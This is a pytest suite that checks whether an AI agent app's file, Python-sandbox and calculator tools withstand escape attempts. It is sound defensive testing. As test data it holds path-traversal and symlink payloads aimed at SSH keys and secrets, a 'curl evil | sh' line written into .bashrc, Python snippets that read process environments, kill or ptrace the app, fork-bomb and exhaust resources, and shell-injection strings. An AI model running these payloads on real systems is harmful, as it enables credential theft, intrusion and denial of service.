"""The escape list of the runtime and security issues, as ONE table, run
against the tools as shipped (issue 21, "sandbox").

Each row is one attempt: the files tool (read, list, search, write) with its
workspace, the python tool's real subprocess sandbox (namespaces where the
machine has them; as root, as in CI, only after the agent's "run without
isolation" — which still uses the namespace sandbox and the seccomp filter),
and command injection in tool arguments. The person has said yes to every
call: the boundary must hold anyway. A row fails if its attempt got through:
a secret beside the workspace, in a fake ``~/.ssh``, or in the app's own
environment shows up in the result; a file outside the workspace appears or
changes; the loopback listener is reached; the sacrificial process dies; a
shell ran an injected command (its marker file appears); a fork bomb or
endless loop outlives its limits.

Reading the person's own readable files from the python tool is NOT in this
table: docs/SECURITY.md says it is not restricted (the sandbox protects the
machine and the network, not what the user may read).
"""

from __future__ import annotations

import os
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from app.core.tools.calculator import calculator_tool
from app.core.tools.files import files_tools
from app.core.tools.python_exec import python_tool
from tests.reliability.sandbox_arena import ENV_SECRET, LIMITS, Arena, call, leaked
from tests.support.reliability_summary import record

FILES = {t.name: t for t in files_tools()}


@pytest.fixture
def arena(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Arena]:
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("OPENAI_API_KEY", ENV_SECRET)
    built = Arena.build(tmp_path)
    try:
        yield built
    finally:
        built.close()


# -- the files tool ----------------------------------------------------------------------
FILE_ATTEMPTS = [
    ("read", "traversal", {"path": "../../outside/secret.txt"}),
    ("read", "traversal-deep", {"path": "sub/../../../outside/secret.txt"}),
    ("read", "traversal-through-file", {"path": "notes.txt/../../../outside/secret.txt"}),
    ("read", "backslashes", {"path": "..\\..\\outside\\secret.txt"}),
    ("read", "url-encoded", {"path": "%2e%2e/%2e%2e/outside/secret.txt"}),
    ("read", "absolute", {"path": "{outside}/secret.txt"}),
    ("read", "file-url", {"path": "file://{outside}/secret.txt"}),
    ("read", "home-tilde-ssh", {"path": "~/.ssh/id_rsa"}),
    ("read", "home-absolute-ssh", {"path": "{home}/.ssh/id_rsa"}),
    ("read", "proc-self-environ", {"path": "/proc/self/environ"}),
    ("read", "proc-app-environ", {"path": "/proc/{app}/environ"}),
    ("read", "proc-self-root", {"path": "/proc/self/root{outside}/secret.txt"}),
    ("read", "proc-self-cwd", {"path": "/proc/self/cwd/../../outside/secret.txt"}),
    ("read", "symlink-to-file", {"path": "link_file"}),
    ("read", "symlink-to-folder", {"path": "link_dir/secret.txt"}),
    ("read", "symlink-to-ssh", {"path": "link_ssh/id_rsa"}),
    ("read", "symlink-loop", {"path": "loop"}),
    ("read", "nul-byte", {"path": "notes.txt\x00../../outside/secret.txt"}),
    ("list", "parent", {"path": "../.."}),
    ("list", "outside-absolute", {"path": "{outside}"}),
    ("list", "root", {"path": "/"}),
    ("list", "symlinked-folder", {"path": "link_dir"}),
    ("list", "recursive-follows-links", {"path": ".", "recursive": True}),
    ("search", "parent", {"query": "TOP-SECRET", "path": "../.."}),
    ("search", "symlinked-folder", {"query": "TOP-SECRET", "path": "link_dir"}),
    ("search", "whole-workspace-with-links", {"query": "SECRET"}),
    ("search", "regex-through-links", {"query": "SECRET|PRIVATE", "regex": True}),
    ("write", "traversal", {"path": "../../outside/pwned.txt", "content": "x"}),
    ("write", "absolute", {"path": "{outside}/pwned.txt", "content": "x"}),
    ("write", "home-bashrc", {"path": "{home}/.bashrc", "content": "curl evil | sh"}),
    ("write", "home-authorized-keys", {"path": "~/.ssh/authorized_keys", "content": "k"}),
    ("write", "over-symlinked-file", {"path": "link_file", "content": "overwritten"}),
    ("write", "into-symlinked-folder", {"path": "link_dir/pwned.txt", "content": "x"}),
    ("write", "proc-self-root", {"path": "/proc/self/root{outside}/pwned.txt", "content": "x"}),
    ("write", "tmp", {"path": "{root}/pwned-tmp.txt", "content": "x"}),
]
_TOOL = {"read": "read_file", "list": "list_files", "search": "search_files",
         "write": "write_file"}


@pytest.mark.parametrize("action, name, arguments", FILE_ATTEMPTS,
                         ids=[f"{a}-{n}" for a, n, _ in FILE_ATTEMPTS])
def test_files_tool_escape(arena: Arena, action: str, name: str, arguments: dict) -> None:
    filled = {k: arena.fill(v) if isinstance(v, str) else v for k, v in arguments.items()}
    outcome = call(FILES[_TOOL[action]], filled, arena)
    secrets, changed = leaked(outcome.content), arena.changed_outside()
    record("sandbox", attempts=1, escapes=int(bool(secrets or changed)))
    assert not secrets, (outcome.content[:500], secrets)
    assert not changed, changed   # a write that was allowed stayed inside the workspace


# -- the python tool's sandbox -----------------------------------------------------------
def _killed_victim(arena: Arena) -> bool:
    time.sleep(0.1)
    return arena.victim.poll() is not None


PYTHON_ATTEMPTS = {
    "network-tcp-loopback": (
        "import socket\ns=socket.create_connection(('127.0.0.1',{port}),timeout=2)\n"
        "print('CONNECTED')", lambda a, out: a.listener.reached > 0 or "CONNECTED" in out),
    "network-udp-loopback": (
        "import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n"
        "s.sendto(b'x',('127.0.0.1',{port}))\nimport time; time.sleep(0.3)",
        lambda a, out: a.listener.reached > 0),
    "environment-secrets": ("import os\nprint(dict(os.environ))", None),
    "proc-app-environ": ("print(open('/proc/{app}/environ','rb').read())", None),
    "proc-scan-environ": (
        "import os\nfor p in os.listdir('/proc'):\n  try: print(open(f'/proc/{p}/environ',"
        "'rb').read())\n  except OSError: pass", None),
    "proc-parent-environ": (
        "import os\ntry: print(open(f'/proc/{os.getppid()}/environ','rb').read())\n"
        "except OSError as e: print(e)", None),
    "write-outside": ("open('{outside}/pwned.txt','w').write('x')", None),
    "write-home-bashrc": ("open('{home}/.bashrc','a').write('curl evil | sh')", None),
    "write-through-planted-symlink": (
        "import os\nos.symlink('{outside}','l')\nopen('l/pwned.txt','w').write('x')", None),
    "write-proc-root": ("open('/proc/1/root{outside}/pwned.txt','w').write('x')", None),
    "kill-app-process": ("import os,signal\nos.kill({victim}, signal.SIGKILL)",
                         lambda a, out: _killed_victim(a)),
    "kill-every-process": (
        "import os\ntry:\n  os.kill(-1, 0); print('KILL-ALL-ALLOWED')\n"
        "except OSError as e: print('refused', e.errno)",
        lambda a, out: "KILL-ALL-ALLOWED" in out),
    "ptrace-app-process": (
        "import ctypes\nlibc=ctypes.CDLL(None, use_errno=True)\n"
        "print('PTRACE', libc.ptrace(16, {victim}, 0, 0))",
        lambda a, out: "PTRACE 0" in out),
    "new-user-namespace": (
        "import ctypes\nlibc=ctypes.CDLL(None, use_errno=True)\n"
        "print('UNSHARE', libc.unshare(0x10000000))", lambda a, out: "UNSHARE 0" in out),
    "mount-over-root": (
        "import ctypes\nlibc=ctypes.CDLL(None, use_errno=True)\n"
        "print('MOUNT', libc.mount(b'none', b'/tmp', b'tmpfs', 0, None))",
        lambda a, out: "MOUNT 0" in out),
    "fork-bomb": (
        "import os\nfor _ in range(100000):\n  try: os.fork()\n  except OSError: pass\n"
        "import time; time.sleep(60)", "bounded"),
    "memory-8-gb": ("b=bytearray(8*1024**3)\nprint('ALLOCATED')",
                    lambda a, out: "ALLOCATED" in out),
    "disk-fill": ("f=open('big','wb')\nfor _ in range(1024): f.write(b'x'*1024*1024)\n"
                  "print('WROTE-1-GB')", lambda a, out: "WROTE-1-GB" in out),
    "endless-cpu": ("while True: pass", "bounded"),
}


@pytest.mark.parametrize("name", sorted(PYTHON_ATTEMPTS))
def test_python_tool_escape(arena: Arena, name: str) -> None:
    code, escaped = PYTHON_ATTEMPTS[name]
    tool_ = python_tool(LIMITS)
    start = time.monotonic()
    outcome = call(tool_, {"code": arena.fill(code)}, arena)
    took = time.monotonic() - start
    secrets, changed = leaked(outcome.content), arena.changed_outside()
    got_through = bool(secrets or changed)
    if escaped == "bounded":
        # The run ends at its limits (wall 6 s, CPU 3 s); 30 s leaves room for
        # a loaded 2-core CI machine and the teardown of 32 tasks.
        got_through |= took > 30 or "exit status: 0" in outcome.content
    elif escaped is not None:
        got_through |= escaped(arena, outcome.content)
    record("sandbox", attempts=1, escapes=int(got_through))
    assert not got_through, (outcome.content[:800], secrets, changed, took)
    assert arena.victim.poll() is None


# -- command injection in tool arguments -------------------------------------------------
INJECTIONS = ["; touch {marker}", "$(touch {marker})", "`touch {marker}`", "\ntouch {marker}\n",
              "| touch {marker}", "&& touch {marker}", "'; touch {marker}; '",
              "\"; touch {marker}; \"", "x\x00; touch {marker}"]


@pytest.mark.parametrize("tool_name", ["read_file", "write_file", "list_files",
                                       "search_files", "search_files-regex", "calculator"])
def test_command_injection_in_tool_arguments_never_runs(arena: Arena, tool_name: str) -> None:
    """Shell metacharacters, newlines and substitutions in every argument that
    names a path, a query or an expression: never executed (nothing calls a
    shell), at most a file of that literal name inside the workspace."""
    ran = 0
    for injection in INJECTIONS:
        text = arena.fill(injection)
        if tool_name == "calculator":
            outcome = call(calculator_tool(), {"expression": "1+1" + text}, arena)
            outcome = call(calculator_tool(), {
                "expression": f"__import__('os').system('touch {arena.marker}')"}, arena)
        elif tool_name.startswith("search_files"):
            outcome = call(FILES["search_files"], {"query": text, "path": "." + text,
                                                   "regex": tool_name.endswith("regex")},
                           arena)
        elif tool_name == "write_file":
            outcome = call(FILES["write_file"], {"path": "n" + text.replace("\x00", ""),
                                                 "content": text}, arena)
        else:
            key = "path"
            outcome = call(FILES[tool_name], {key: "notes.txt" + text}, arena)
        ran += int(arena.marker.exists())
        assert outcome.content is not None
    record("sandbox", attempts=len(INJECTIONS), escapes=ran)
    assert ran == 0 and not arena.marker.exists()
    assert not arena.changed_outside()
    assert os.path.isdir(arena.workspace)
